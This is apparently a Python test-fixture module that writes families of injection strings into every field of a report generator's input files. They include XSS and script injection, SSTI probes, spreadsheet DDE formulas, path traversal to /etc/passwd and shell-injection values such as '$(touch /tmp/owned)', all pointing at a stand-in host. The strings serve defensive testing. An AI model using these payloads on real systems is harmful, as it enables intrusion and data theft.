"""Strings that want to be more than text, by family, and editions that hold them in every field.

A string that asks for something asks for it at ``http://hostile.invalid`` or sets ``window.__owned``, so a test knows it
by that. Nothing here is aimed at anybody: no name resolves, and no script does more than leave its mark.
"""

from __future__ import annotations

import json

from support.running import HEADER, write_edition

AWAY = "http://hostile.invalid"
OWN = "window.__owned=1"
_TAGS = ("script", "style", "textarea", "title", "noscript", "template", "svg", "math", "iframe", "xmp", "plaintext")
_HANDLERS = ("load", "error", "focus", "mouseover", "toggle", "begin", "animationstart", "pointerenter", "click", "cut")

FAMILIES = {
    "scripts": (
        f"<script>{OWN}</script>",
        f"<ScRiPt>{OWN}</sCrIpT >",
        f"<script src={AWAY}/a.js></script>",
        f"<script type=module>import '{AWAY}/m.js'</script>",
        f"<<script>script>{OWN}<</script>/script>",
        f"</script><script>{OWN}</script>",
        f"<script\x0b>{OWN}</script>",
        f"&lt;script&gt;{OWN}&lt;/script&gt;",
        f"&amp;lt;script&amp;gt;{OWN}&amp;lt;/script&amp;gt;",
        f"&#60;script&#62;{OWN}&#60;/script&#62;",
        f"<scr<!-- -->ipt>{OWN}</script>",
        f"\\u003cscript\\u003e{OWN}\\u003c/script\\u003e",
        f"+ADw-script+AD4-{OWN}+ADw-/script+AD4-",
        f"<!--><script>{OWN}</script>-->",
        f"<![CDATA[<script>{OWN}</script>]]>",
        f"]]><script>{OWN}</script>",
        f"<?xml-stylesheet href='{AWAY}/x.xsl'?>",
        f"<!DOCTYPE x [<!ENTITY e SYSTEM '{AWAY}/e'>]>&e;",
        f"';{OWN};'",
        f'";{OWN};//',
        f"`${{{OWN}}}`",
        f"*/{OWN}/*",
    ),
    "tags": tuple(f"</{tag}><img src=x onerror={OWN}><{tag}>" for tag in _TAGS),
    "handlers": tuple(f"<b tabindex=0 autofocus on{name}={OWN}>x</b>" for name in _HANDLERS),
    "attributes": (
        f'" onmouseover="{OWN}" x="',
        f"' onfocus='{OWN}' autofocus='",
        f'"><img src={AWAY}/i.png onerror={OWN}>',
        f"x onclick={OWN} y",
        f'" style="background:url({AWAY}/s.png)',
        f'" srcset="{AWAY}/t.png 2x',
        f'" formaction="javascript:{OWN}',
        '" id="content" name="location',
        '" class="mark" lang="xx',
    ),
    "elements": (
        f"<img src={AWAY}/1.png>",
        f"<image href={AWAY}/2.png>",
        f"<iframe src={AWAY}/3></iframe>",
        f"<iframe srcdoc='<script>parent.{OWN}</script>'></iframe>",
        f"<object data={AWAY}/4></object>",
        f"<embed src={AWAY}/5>",
        f"<video poster={AWAY}/6 autoplay><source src={AWAY}/7></video>",
        f"<audio src={AWAY}/8 autoplay>",
        f"<link rel=stylesheet href={AWAY}/9.css>",
        f"<link rel=preconnect href={AWAY}>",
        f"<base href={AWAY}/>",
        f"<meta http-equiv=refresh content='0;url={AWAY}'>",
        "<meta http-equiv=Content-Security-Policy content='default-src *'>",
        f"<form action={AWAY}><input autofocus onfocus={OWN}><button>x</button></form>",
        f"<body background={AWAY}/b.png onload={OWN}>",
        f"<table background={AWAY}/t.png><tr><td>x</table>",
        f"<a href={AWAY}/ping ping={AWAY}/p>en savoir plus</a>",
        f"<details open ontoggle={OWN}>x</details>",
        "<div id=__proto__>x</div>",
        "<form id=document><input name=cookie></form>",
    ),
    "svg": (
        f"<svg onload={OWN}>",
        f"<svg><script>{OWN}</script></svg>",
        f"<svg><image href='{AWAY}/s.svg'/></svg>",
        f"<svg><use href='{AWAY}/u.svg#a'/></svg>",
        f"<svg><a href='javascript:{OWN}'><text>x</text></a></svg>",
        f"<svg><animate onbegin={OWN} attributeName=x dur=1s>",
        f"<svg><foreignObject><iframe src={AWAY}/f></iframe></foreignObject></svg>",
        f"<svg><style>@import '{AWAY}/x.css';</style></svg>",
        f"<math><mtext><mglyph><style><img src=x onerror={OWN}>",
    ),
    "addresses": (
        f"javascript:{OWN}",
        f"JaVaScRiPt:{OWN}",
        f"java\tscript:{OWN}",
        f"<a href='javascript:{OWN}'>en savoir plus</a>",
        f"<a href='&#106;avascript:{OWN}'>lire</a>",
        f"<a href='\x01javascript:{OWN}'>lire</a>",
        f"<a href=data:text/html,<script>{OWN}</script>>lire</a>",
        "<a href='vbscript:msgbox(1)'>lire</a>",
        "<a href='file:///etc/passwd'>lire</a>",
        "file:///etc/passwd",
        "\\\\hostile.invalid\\share\\x",
        "//hostile.invalid/x",
        "<a href='//hostile.invalid/x'>lire</a>",
        f'{AWAY}/"onmouseover={OWN}',
        f'<a href="{AWAY}/\'onclick={OWN}">lire</a>',
        f"{AWAY}/<script>{OWN}</script>",
        "https://user:secret@hostile.invalid/",
        "https://hostile.invalid/%00%0d%0aX: y",
        "reportgen:theme.toml",
        "reportgen:../../etc/passwd",
        "attachment:///etc/passwd",
        "mailto:x@hostile.invalid?bcc=y@hostile.invalid",
        "blob:null/1",
        "jar:file:///etc/x!/",
    ),
    "styles": (
        f"<style>@import url({AWAY}/c.css);</style>",
        f"}} body {{ background: url({AWAY}/c.png) }}",
        f"</style><style>*{{background:url({AWAY}/d.png)}}",
        f'<p style="background:url({AWAY}/e.png)">x</p>',
        f"<p style='-weasy-link:attachment({AWAY}/f)'>x</p>",
        f"expression({OWN})",
        "\\3c style\\3e ",
        f"@font-face {{ font-family: x; src: url({AWAY}/f.ttf) }}",
        f"x; list-style: url('{AWAY}/g.png')",
        "content: url(file:///etc/passwd)",
        "/* */ display:none /*",
        "<link rel=attachment href='file:///etc/passwd'>",
    ),
    "templates": (
        "{{ 7 * 7 }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% include '/etc/passwd' %}",
        "{% raw %}{% endraw %}",
        "{# x #}",
        "{{ config }}",
        "{{ self._TemplateReference__context }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "{{ '{{ 7*7 }}' }}",
        "${7*7} #{7*7} <%= 7*7 %>",
        "{% assign x = site.data %}{{ x | inspect }}",
        "{0.__class__} {name!r:>99999999} %s %n",
    ),
    "markdown": (
        f"[x](javascript:{OWN})",
        f"![x]({AWAY}/m.png)",
        f'[x]({AWAY} "onclick={OWN}")',
        f"<div markdown=1 onclick={OWN}>*x*</div>",
        f'x{{: onclick="{OWN}"}}',
        f'{{::options parse_block_html="true" /}}<b onclick={OWN}>',
        f"[x]: javascript:{OWN}",
        f"<javascript:{OWN}>",
        "--- layout: evil ---",
        "```html <script> ```",
        "$$\\input{/etc/passwd}$$",
        f"~~~ {{% raw %}}<img src=x onerror={OWN}>",
        "> " * 60 + "x",
        "*" * 200,
        "[" * 200,
    ),
    "formulas": (
        "=1+1",
        f'=HYPERLINK("{AWAY}";"x")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'=1+1",
        "''=1+1",
        f'=IMPORTXML("{AWAY}";"//a")',
        f'=WEBSERVICE("{AWAY}")',
        '=DDE("cmd";"/C calc";"x")',
        "of:=1+1",
        "\t=1+1",
        "\r=1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        ";=1+1",
        '";=1+1;"',
        "{=1+1}",
    ),
    "paths": (
        "../../../../etc/passwd",
        "..\\..\\windows\\system32",
        "/etc/passwd",
        "C:\\windows\\x",
        "%2e%2e%2f%2e%2e%2fetc",
        "....//....//etc",
        ".",
        "..",
        "a/../../b",
        "CON",
        "nul.txt",
        "x" * 240,
        "~root/x",
        "$(touch /tmp/owned)",
        "`touch /tmp/owned`",
        "; touch /tmp/owned",
        "| touch /tmp/owned",
        "*?:<>",
    ),
    "invisible": (
        "Al\u200bizé",
        "Al\u200dizé",
        "Al\u2060izé",
        "Al\u00adizé",
        "\ufeffAlizé",
        "Alizé\u202e3202-tcejorp",
        "\u202dAlizé\u202c",
        "\u2066Alizé\u2069",
        "Ali\u0000zé",
        "Ali\u0007zé\u001b[31m",
        "\u001b]0;owned\u0007",
        "Ali\u0085zé\u2028\u2029",
        "Aliz\u0065\u0301",
        "A" + "\u0301\u0323" * 400,
        "\U000e0041\U000e0042x",
    ),
}
STRINGS = tuple(dict.fromkeys(each for family in FAMILIES.values() for each in family))

# What no font of the report can write: it is refused, and named.
UNPRINTABLE = (
    "＝1+1",
    "＋1",
    "＠SUM(1)",
    "－1",
    "x\ud7ff",
    "\ue000",
    "\uffff",
    "\U0001f600",
    "شعار",
    "標題",
    "\u3164",
    "x\ufe0f",
)

SPELLED = "abcdefghijklmnopqrstuvwxyz"


def name_of(place: int) -> str:
    """Name a project by letters that no other has: ``ah``, ``ai`` …; a name is to be one even if a string leaves nothing."""
    return f"{SPELLED[place // 26]}{SPELLED[place % 26]}"


def cell(text: str) -> str:
    """Quote a CSV cell; NUL makes a file that is no text, which is refused as a whole."""
    return f'"{text.replace(chr(34), chr(34) * 2).replace(chr(0), "")}"'


def hostile_rows(strings=STRINGS) -> tuple[str, ...]:
    """Make a project of every two strings: both are in each of its texts, one first in some of them, the other in others."""
    pairs = zip(strings[::2], (*strings[1::2], strings[0]), strict=False)
    return tuple(_row(place, f"{one} {other}", f"{other} {one}") for place, (one, other) in enumerate(pairs))


def _row(place: int, text: str, turned: str) -> str:
    return ";".join(
        (
            cell(f"{text} {name_of(place)}"),
            cell(f"{turned} {name_of(place // 10)}"),
            "Oui",
            cell(f"{turned} (<a href={cell(turned)}>en savoir plus</a>)"),
            "2018-01-01;4;Déploiement",
            "non communiqué" if place % 2 else f"{place + 1},5",
            cell(f"{text} {name_of(place % 7)}"),
            cell(turned),
            cell(f"{text} {AWAY}/{name_of(place)}"),
            cell(text),
        )
    )


HOSTILE_HEADER = f"{HEADER};Liens;Motif de non-communication"


def toml(text: str) -> str:
    """Spell a TOML string; a character that TOML forbids is escaped."""
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def write_hostile_edition(root, strings=STRINGS):
    """Write an edition with each string in every field of a project, in its settings and in its editorial."""
    folder = write_edition(root, "2020-T1", 10, "2020-03-31")
    (folder / "projects.csv").write_text(
        "\n".join((HOSTILE_HEADER, *hostile_rows(strings))) + "\n", encoding="utf-8", newline=""
    )
    (folder / "editorial.md").write_text(editorial(strings), encoding="utf-8", newline="")
    (folder / "edition.toml").write_text(settings(strings), encoding="utf-8")
    return folder


def editorial(strings) -> str:
    """Write an editorial of nothing else: in its title, its lead, headings, paragraphs, lists and quotations."""
    words = [in_one_line(text) for text in strings]
    listed = "\n".join(f"- {text}" for text in words)
    headed = "\n\n".join(f"## Sujet {text}\n\n{text}" for text in words[::10])
    return f"# {' '.join(words[:20])}\n\n{' '.join(words)}\n\n## Liste\n\n{listed}\n\n{headed}\n\n> {' '.join(words[:9])}\n"


def in_one_line(text: str) -> str:
    """Take out what would be read as a reference: the gate refuses it, as another test shows."""
    return " ".join(text.replace("{{", "{ {").replace("{%", "{ %").split())


def settings(strings) -> str:
    """Write an edition.toml that says every string somewhere."""
    everything, some = (toml(" ".join(map(in_one_line, chosen))) for chosen in (strings, strings[::12]))
    left = "".join(
        f"[[left]]\nname = {toml(text)}\noutcome = {toml(text)}\nreason = {toml(text)}\n"
        for text in map(in_one_line, strings[::4])
    )
    return (
        f'number = 10\nquarter = "2020-T1"\nas_of = 2020-03-31\npublished = 2020-03-31\n'
        f"[publisher]\nname = {some}\nshort_name = {some}\ncontact = {everything}\n"
        f"[licence]\nname = {some}\n"
        f"[titles]\nbrief = {toml(FAMILIES['scripts'][0])}\n"
        f"[article]\nangle = {everything}\ncover = {everything}\ncategories = [{everything}]\ntags = [{everything}]\n{left}"
    )
